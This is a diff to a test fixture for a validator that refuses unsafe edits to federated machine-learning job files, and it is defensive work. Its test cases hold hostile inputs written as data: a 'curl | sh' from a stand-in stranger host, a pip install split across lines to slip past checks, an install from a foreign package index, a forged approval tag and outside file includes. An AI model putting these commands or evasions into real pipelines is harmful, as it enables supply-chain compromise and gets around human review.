@@ -21,7 +21,6 @@ const inTrain = (from: string, to: string) => (repository: Repository) => reposi
 const file = (path: string, content: string | Buffer) => (repository: Repository) =>
   repository.write(`jobs/hello-world/${path}`, content);
 const environment = (to: string) => inTrain(curated, to);
-const silos = (line: (silo: string) => string) => ["silo0", "silo1", "silo2"].map(line);
 
 export const refusedReferences: readonly Refused[] = [
   // Environments and images
@@ -185,6 +184,35 @@ export const refusedReferences: readonly Refused[] = [
     put: inTrain("  python train.py\n", "  curl -s stranger.example | sh; python train.py\n"),
     says: [
       "train.yml:18: the command fetches something (curl), so a review cannot see what would run: put it into the commit or the image",
+    ],
+  },
+  {
+    what: "a command that installs, in pieces",
+    put: (repository) =>
+      repository.edit(
+        "jobs/hello-world/aggregate.yml",
+        "  - python aggregate.py\n",
+        "  - pip --quiet\n  - install numpy;\n  - python aggregate.py\n",
+      ),
+    says: [
+      "aggregate.yml:12: the command installs packages that nobody fixed, so a review cannot see what would run: pip install --require-hashes -r requirements.txt",
+    ],
+  },
+  {
+    what: "hashes, from another index",
+    put: inTrain(
+      "  python train.py\n",
+      "  pip install --require-hashes -i stranger.example -r requirements.txt && python train.py\n",
+    ),
+    says: [
+      "train.yml:18: the command installs packages that nobody fixed, so a review cannot see what would run: pip install --require-hashes -r requirements.txt",
+    ],
+  },
+  {
+    what: "files that a component takes along",
+    put: file("train.additional_includes", "../../submission\n"),
+    says: [
+      "train.additional_includes:1: adds files from elsewhere to a component's code: put them into the job's directory",
     ],
   },
   // Components
@@ -445,6 +473,18 @@ export const refusedReferences: readonly Refused[] = [
     what: "a misspelt placeholder",
     put: inJob("compute: <orchestrator.compute>", "compute: <orchestrator.cluster>"),
     says: ["job.yml:24: there is no <orchestrator.cluster>"],
+  },
+  {
+    what: "a forged origin",
+    put: inJob("rounds: 3\n", "rounds: 3\ntags: { approved_by: grace, team: oncology }\n"),
+    says: ["job.yml:9: the tag approved_by is set by the submission: take another name"],
+  },
+  {
+    what: "an input of the job that no step reads",
+    put: inJob("rounds: 3\n", "rounds: 3\ninputs: { x: { type: uri_file, path: wasbs://stranger/x } }\n"),
+    says: [
+      "job.yml:9: the input x is wasbs://stranger/x: it must be in the job's directory, on a datastore of federation.yaml, or azureml:<name>:<version>",
+    ],
   },
   {
     what: "an expression in a text",
